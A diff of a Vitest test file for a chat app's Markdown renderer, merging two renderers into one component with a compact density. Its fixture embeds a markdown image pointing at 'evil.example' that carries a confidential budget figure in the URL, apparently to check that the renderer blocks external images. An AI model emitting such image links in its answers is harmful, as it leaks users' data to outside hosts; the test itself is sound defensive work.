@@ -1,16 +1,18 @@
 import { createElement } from "react";
 import { renderToStaticMarkup } from "react-dom/server";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
-import { Markdown } from "@/features/chat/Markdown";
-import { ChatMarkdown } from "@/features/project-chat/ChatMarkdown";
+import { Markdown } from "./Markdown";
 
 const leak = "https://evil.example/pixel.png?leak=budget-48250";
 const answer = `> The approved budget is $48,250.\n> ![status](${leak})\n\nSee [the terms](https://vendor.example/terms) and ![our logo](/logo.png).`;
 
-/** Both renderers of answers, as a server-side render (the policy reads only window.location). */
+/** The renderer of answers in both densities, as a server-side render (the policy reads only window.location). */
 const renderers = {
   "the general chat": () => renderToStaticMarkup(createElement(Markdown, null, answer)),
-  "the project chat": () => renderToStaticMarkup(createElement(ChatMarkdown, { text: answer, citations: [], onCite: () => {} })),
+  "the project chat": () =>
+    renderToStaticMarkup(
+      createElement(Markdown, { density: "compact", citations: { sources: [1], render: () => null }, children: answer }),
+    ),
 };
 
 beforeAll(() => vi.stubGlobal("window", { location: { origin: "https://quorum.example" } }));
